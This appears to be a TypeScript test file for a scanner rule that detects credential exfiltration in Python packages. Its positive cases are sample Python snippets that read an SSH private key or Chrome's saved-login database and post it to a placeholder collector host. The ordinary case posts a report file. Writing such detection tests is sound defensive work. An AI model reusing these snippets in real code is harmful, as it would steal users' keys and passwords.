import { testRule } from '../../../../../test/builders/python-package.ts';
import { credentialExfiltration } from './rule.ts';

testRule(credentialExfiltration, {
  seen: {
    'a key file':
      "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collector.example.invalid', data=key)",
    'a browser store opened by path':
      "import pathlib, requests\np = pathlib.Path.home() / '.config' / 'google-chrome' / 'Default' / 'Login Data'\nrequests.post('https://collector.example.invalid', files={'f': p.read_bytes()})",
  },
  unseen: {
    'an ordinary file':
      "import requests\nrequests.post('https://collector.example.invalid', data=open('report.txt').read())",
  },
});
